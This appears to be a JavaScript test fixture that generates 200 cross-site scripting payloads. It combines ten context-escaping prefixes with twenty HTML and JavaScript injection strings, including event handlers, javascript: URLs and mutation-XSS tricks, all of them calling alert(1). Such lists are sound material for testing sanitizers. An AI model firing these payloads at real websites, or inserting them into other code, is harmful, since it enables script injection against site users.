/** Ways out of the place that a text stands in: an attribute, an element, a comment, a script. */
const waysOut = [
  ...['', '">', "'>", '" ', "' ", '</textarea>', '</title>', '</script>', '-->', '&quot;&gt;'],
]

const acts = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<body onload=alert(1)>',
  '<math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<img/src=x/onerror=alert(1)//',
  'autofocus onfocus=alert(1) x="',
  'style=animation-name:x onanimationstart=alert(1) x="',
  'javascript:alert(1)',
  '<object data="javascript:alert(1)"></object>',
  '<marquee onstart=alert(1)>',
]

/** Two hundred texts that a page would run if it took any of them for markup. */
export const payloads = waysOut.flatMap((out) => acts.map((act) => `${out}${act}`))
